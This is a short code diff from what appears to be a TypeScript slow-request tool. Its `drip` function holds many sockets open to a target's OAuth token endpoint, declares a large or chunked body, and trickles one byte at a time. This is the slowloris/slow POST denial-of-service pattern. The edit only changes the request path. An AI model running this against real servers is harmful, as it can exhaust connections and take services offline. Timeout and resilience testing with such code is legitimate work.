@@ -56,7 +56,7 @@ export const drip = (what: 'content' | 'chunk' | 'trailer', sockets = 64): Conne
   start: target =>
     onSockets(target, sockets, (socket, host) => {
       const framing = what === 'content' ? 'Content-Length: 100000' : 'Transfer-Encoding: chunked'
-      socket.write(head('POST /tfs/_apis/oauth2/token', host, [framing]) + BEFORE_DRIP[what])
+      socket.write(head(`POST /tfs/${what}/_apis/oauth2/token`, host, [framing]) + BEFORE_DRIP[what])
       const timer = setInterval(() => socket.write('x'), DRIP_EVERY_MS)
       socket.once('close', () => clearInterval(timer))
     }),
